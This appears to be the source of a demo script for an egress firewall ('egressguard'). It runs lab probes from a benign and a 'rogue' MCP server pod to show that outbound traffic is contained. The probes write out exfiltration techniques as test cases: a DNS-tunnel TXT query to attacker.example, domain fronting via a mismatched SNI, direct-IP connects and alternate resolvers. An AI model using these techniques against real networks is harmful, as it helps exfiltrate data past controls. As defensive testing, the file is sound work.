// `egressguard demo`: the reference containment lab, replayed on this host in network namespaces.
// Phase 1 (discovery) shows both MCP servers reaching everything, logged. Phase 2 applies one FirewallPolicy per
// server, waits until both are in the kernel, flips the default to deny, and shows the rogue server contained.

import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { renderPolicyLogTable, summarizeFlows } from '../src/events/table.js';
import type { FlowEvent } from '../src/events/types.js';
import { LAB_UNLISTED_TLS_NAME } from './certs.js';
import { LAB_ADDRESSES, Lab } from './lab.js';
import { LabAgent } from './lab-agent.js';
import type { ProbeResult } from './probe-result.js';

const examplePolicies = fileURLToPath(new URL('../../examples/policies/', import.meta.url));
const BENIGN = { pod: 'ms1kbsng-xyz', namespace: 'obot-mcp', name: 'ms1kbsng-xyz', labels: { app: 'ms1kbsng', 'mcp-user-id': 'u1' } };
const ROGUE = { pod: 'pt5rfqaz-abc', namespace: 'obot-mcp', name: 'pt5rfqaz-abc', labels: { app: 'pt5rfqaz', 'mcp-user-id': 'u2' } };

interface Step {
  what: string;
  pod: string;
  args: string[];
  expect: (r: ProbeResult) => boolean;
  expected: string;
}

function summary(r: ProbeResult): string {
  switch (r.kind) {
    case 'tcp':
      return r.ok ? `connected, got "${r.firstLine ?? ''}"` : `failed: ${r.error}`;
    case 'dns':
      return r.ok ? `rcode ${r.rcode}, ${r.answers.length} answer(s), reply from ${r.replyFrom}` : `failed: ${r.error}`;
    case 'udp':
      return r.ok ? `echoed "${r.reply ?? ''}"` : `failed: ${r.error}`;
    case 'tls':
      return r.ok ? `TLS ok (sni ${r.servername ?? 'none'}), got "${r.firstLine ?? ''}"` : `failed: ${r.error}`;
    case 'loop-tcp':
      return `${r.successes}/${r.attempts} connected`;
    default:
      return JSON.stringify(r);
  }
}

const handshake = (r: ProbeResult) => r.kind === 'tls' && r.ok;
const failed = (code: string) => (r: ProbeResult) => (r.kind === 'tcp' || r.kind === 'tls') && !r.ok && r.error === code;
const noHandshake = (r: ProbeResult) => r.kind === 'tls' && !r.handshake;
const dnsRcode = (rcode: string) => (r: ProbeResult) => r.kind === 'dns' && r.rcode === rcode;

/** A real TLS handshake to a lab host, its certificate checked against the lab CA. */
function tlsStep(
  what: string,
  pod: string,
  target: string,
  ca: string,
  expect: Step['expect'],
  expected: string,
  extra: string[] = [],
): Step {
  return { what, pod, args: ['tls', target, '443', '--ca', ca, ...extra], expect, expected };
}

function discoverySteps(ca: string): Step[] {
  return [
    tlsStep('benign -> https://api.openai.com', BENIGN.pod, 'api.openai.com', ca, handshake, 'TLS handshake'),
    tlsStep('rogue  -> https://httpbin.org', ROGUE.pod, 'httpbin.org', ca, handshake, 'TLS handshake'),
    tlsStep('rogue  -> https://webhook.site', ROGUE.pod, 'webhook.site', ca, handshake, 'TLS handshake'),
  ];
}

function enforcementSteps(ca: string): Step[] {
  const tunnel = `${randomBytes(12).toString('hex')}.attacker.example`;
  const openaiIp = '198.18.100.10';
  return [
    tlsStep('benign -> https://api.openai.com', BENIGN.pod, 'api.openai.com', ca, handshake, 'TLS handshake (allow-openai)'),
    tlsStep('benign -> https://httpbin.org', BENIGN.pod, 'httpbin.org', ca, failed('ENOTFOUND'), 'name denied (deny-all)'),
    tlsStep(
      `benign -> api.openai.com's IP, SNI ${LAB_UNLISTED_TLS_NAME}`,
      BENIGN.pod,
      openaiIp,
      ca,
      noHandshake,
      'domain fronting: ClientHello dropped',
      ['--sni', LAB_UNLISTED_TLS_NAME, '--timeout-ms', '2000'],
    ),
    tlsStep('rogue  -> https://httpbin.org', ROGUE.pod, 'httpbin.org', ca, failed('ENOTFOUND'), 'name denied (deny-all)'),
    tlsStep('rogue  -> https://webhook.site', ROGUE.pod, 'webhook.site', ca, failed('ENOTFOUND'), 'name denied (deny-all)'),
    {
      what: 'rogue  DNS tunnel TXT <data>.attacker.example',
      pod: ROGUE.pod,
      args: ['dns', tunnel, '--server', LAB_ADDRESSES.resolver.ipv4, '--type', 'TXT'],
      expect: dnsRcode('NXDOMAIN'),
      expected: 'NXDOMAIN, never reaches the resolver',
    },
    {
      what: 'rogue  direct IP 198.18.100.20:443 (httpbin.org)',
      pod: ROGUE.pod,
      args: ['tcp', '198.18.100.20', '443'],
      expect: failed('EPERM'),
      expected: 'EPERM at connect (deny-all)',
    },
    {
      what: 'rogue  direct IPv6 [fd00:eb:100::30]:443 (webhook.site)',
      pod: ROGUE.pod,
      args: ['tcp', 'fd00:eb:100::30', '443'],
      expect: failed('EPERM'),
      expected: 'EPERM at connect (default deny)',
    },
    {
      what: `rogue  alternate resolver ${LAB_ADDRESSES.alternateResolver.ipv4} for httpbin.org`,
      pod: ROGUE.pod,
      args: ['dns', 'httpbin.org', '--server', LAB_ADDRESSES.alternateResolver.ipv4],
      expect: (r) => dnsRcode('NXDOMAIN')(r) && r.kind === 'dns' && r.replyFrom === LAB_ADDRESSES.alternateResolver.ipv4,
      expected: 'steered to the proxy: NXDOMAIN',
    },
    {
      what: 'rogue  DNS over TCP for webhook.site',
      pod: ROGUE.pod,
      args: ['dns', 'webhook.site', '--server', LAB_ADDRESSES.resolver.ipv4, '--tcp'],
      expect: dnsRcode('NXDOMAIN'),
      expected: 'NXDOMAIN',
    },
  ];
}

async function runSteps(lab: Lab, steps: Step[], out: (line: string) => void): Promise<number> {
  let failures = 0;
  for (const step of steps) {
    const result = await lab.probe(step.pod, step.args);
    const ok = step.expect(result);
    if (!ok) failures++;
    out(`  ${ok ? 'ok  ' : 'FAIL'} ${step.what.padEnd(56)} ${summary(result)}${ok ? '' : `   (expected: ${step.expected})`}`);
  }
  return failures;
}

async function eventsSince(agent: LabAgent, start: string): Promise<FlowEvent[]> {
  // First occurrences are written at once; give the asynchronous file sink a moment.
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return summarizeFlows(agent.events().filter((e) => e.time >= start));
}

export async function runDemo(args: string[], out: (line: string) => void = (line) => console.log(line)): Promise<number> {
  const keep = args.includes('--keep-logs');
  const prefix = `egdemo${randomBytes(2).toString('hex')}`;
  let lab: Lab | null = null;
  let agent: LabAgent | null = null;
  const cleanup = async () => {
    await agent?.teardown().catch((error: Error) => out(`teardown: ${error.message}`));
    if (!keep) await lab?.destroy();
  };
  const onSignal = () => {
    void cleanup().finally(() => process.exit(130));
  };
  process.once('SIGINT', onSignal);
  process.once('SIGTERM', onSignal);
  let failures = 0;
  try {
    out('egressguard demo: building the lab (node, two MCP server pods in obot-mcp, an "internet" with a real DNS server)');
    lab = await Lab.create({ prefix, pods: [BENIGN.pod, ROGUE.pod] });
    agent = new LabAgent(lab, { workloads: [BENIGN, ROGUE], mode: 'discovery' });
    await agent.start();
    out(`agent running in ${lab.nodeNetns}; events: ${agent.eventsPath}`);

    out('\nPhase 1 - discovery: default permit + log, no FirewallPolicy yet');
    const phase1 = new Date().toISOString();
    failures += await runSteps(lab, discoverySteps(lab.caPath), out);
    out('\nPolicy log (phase 1):');
    out(renderPolicyLogTable((await eventsSince(agent, phase1)).filter((e) => e.layer === 'connect')));

    out('Phase 2 - enforcement: one FirewallPolicy per MCP server, then the default flips to deny');
    for (const file of ['benign-mcp-fw.yaml', 'rogue-mcp-fw.yaml']) {
      agent.writePolicy(file, readFileSync(`${examplePolicies}${file}`, 'utf8'));
      out(`  applied examples/policies/${file}`);
    }
    const status = await agent.waitForPolicies(['benign-mcp-fw', 'rogue-mcp-fw']);
    for (const p of status.policies)
      out(`  ${p.namespace}/${p.name}: ruleset ${p.ruleset} (generation ${p.lastReconciledGeneration}) on ${p.workloads.join(', ')}`);
    await agent.setMode('enforce');
    out('  default action: deny');
    const phase2 = new Date().toISOString();
    failures += await runSteps(lab, enforcementSteps(lab.caPath), out);
    const tunnelled = (await lab.resolverQueries()).filter((name) => name.endsWith('attacker.example'));
    out(`  ${tunnelled.length === 0 ? 'ok  ' : 'FAIL'} queries for attacker.example that reached the resolver: ${tunnelled.length}`);
    if (tunnelled.length > 0) failures++;
    out('\nPolicy log (phase 2):');
    out(renderPolicyLogTable(await eventsSince(agent, phase2)));
    out(failures === 0 ? 'Contained: every expectation held.' : `${failures} expectation(s) failed; agent log: ${agent.logPath}`);
  } finally {
    process.off('SIGINT', onSignal);
    process.off('SIGTERM', onSignal);
    await cleanup();
  }
  return failures === 0 ? 0 : 1;
}
